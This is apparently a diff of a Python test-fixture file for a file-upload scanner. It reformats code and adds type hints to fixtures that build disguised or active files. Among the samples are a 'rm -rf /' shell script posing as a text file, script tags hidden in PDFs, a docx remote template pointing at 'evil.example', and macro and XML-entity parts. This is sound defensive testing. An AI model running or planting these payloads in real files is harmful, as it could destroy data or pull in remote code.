@@ -4,14 +4,14 @@ import io
 import struct
 import zipfile
 import zlib
+from collections.abc import Callable
+from typing import Any
 
 import pikepdf
 import xlsxwriter
 from PIL import Image
 
-CONTENT_TYPES = (
-    b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"></Types>'
-)
+CONTENT_TYPES = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"></Types>'
 RELATIONS = b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"/>'
 MAIN_PART = {"docx": "word/document.xml", "xlsx": "xl/workbook.xml"}
 
@@ -74,11 +74,11 @@ def zip_that_lies() -> bytes:
     return bytes(out)
 
 
-def document(change: object = None, **saving: object) -> bytes:
+def document(change: Callable[[pikepdf.Pdf], None] | None = None, **saving: Any) -> bytes:
     """Return a PDF of one page; `change` may do things to it first."""
     made = pikepdf.new()
     made.add_blank_page()
-    if callable(change):
+    if change:
         change(made)
     out = io.BytesIO()
     made.save(out, **saving)
@@ -92,7 +92,9 @@ def script(made: pikepdf.Pdf) -> None:
 def hidden_script(made: pikepdf.Pdf) -> None:
     """A script deep in a page's annotation, not in the catalogue."""
     action = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=made.make_stream(b"app.alert(1)"))
-    annotation = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, A=action, Rect=[0, 0, 1, 1])
+    annotation = pikepdf.Dictionary(
+        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, A=action, Rect=[0, 0, 1, 1]
+    )
     made.pages[0].Annots = pikepdf.Array([annotation])
 
 
@@ -184,11 +186,19 @@ NASTY: dict[str, tuple[str, bytes, str]] = {
     "png under a jpg's name": ("photo.jpg", picture("PNG"), "wrong-content"),
     "gif under a png's name": ("photo.png", picture("GIF"), "wrong-content"),
     "docx under an xlsx's name": ("list.xlsx", office("docx"), "wrong-content"),
-    "page under a text's name": ("note.txt", b"\xef\xbb\xbf \n<!DOCTYPE html><script>alert(1)</script>", "wrong-content"),
+    "page under a text's name": (
+        "note.txt",
+        b"\xef\xbb\xbf \n<!DOCTYPE html><script>alert(1)</script>",
+        "wrong-content",
+    ),
     "picture under a CSV's name": ("list.csv", picture("PNG"), "wrong-content"),
     "shell script as text": ("note.txt", b"#!/bin/sh\nrm -rf /\n", "wrong-content"),
     "PDF with a zip behind": ("plan.pdf", document() + office(), "wrong-content"),
-    "PDF with a zip that ends like a PDF": ("plan.pdf", document() + office() + b"\n%%EOF\n", "wrong-content"),
+    "PDF with a zip that ends like a PDF": (
+        "plan.pdf",
+        document() + office() + b"\n%%EOF\n",
+        "wrong-content",
+    ),
     "PDF with a page behind": ("plan.pdf", document() + b"<script>alert(1)</script>", "wrong-content"),
     "PDF after other bytes": ("plan.pdf", b"GIF89a" + document(), "wrong-content"),
     "zip after other bytes": ("plan.docx", b"#!/bin/sh\n" + office(), "wrong-content"),
@@ -218,16 +228,24 @@ NASTY: dict[str, tuple[str, bytes, str]] = {
     "docx control": ("plan.docx", office(parts={"word/activeX/activeX1.xml": b"<m/>"}), "active"),
     "docx macro by type": (
         "plan.docx",
-        office(parts={"[Content_Types].xml": b'<Types><Override ContentType="a.macroEnabled.main+xml"/></Types>'}),
+        office(
+            parts={"[Content_Types].xml": b'<Types><Override ContentType="a.macroEnabled.main+xml"/></Types>'}
+        ),
         "active",
     ),
     "docx template elsewhere": (
         "plan.docx",
-        office(parts={"word/_rels/settings.xml.rels": external("attachedTemplate", "http://evil.example/a.dotm")}),
+        office(
+            parts={"word/_rels/settings.xml.rels": external("attachedTemplate", "http://evil.example/a.dotm")}
+        ),
         "active",
     ),
     "docx object": ("plan.docx", office(parts={"word/embeddings/oleObject1.bin": b"x"}), "carries-files"),
-    "docx entities": ("plan.docx", office(parts={"word/a.xml": b"<!DOCTYPE a [<!ENTITY b 'c'>]><a/>"}), "active"),
+    "docx entities": (
+        "plan.docx",
+        office(parts={"word/a.xml": b"<!DOCTYPE a [<!ENTITY b 'c'>]><a/>"}),
+        "active",
+    ),
     "docx entities in UTF-16": (
         "plan.docx",
         office(parts={"word/a.xml": "<!DOCTYPE a [<!ENTITY b 'c'>]><a/>".encode("utf-16")}),
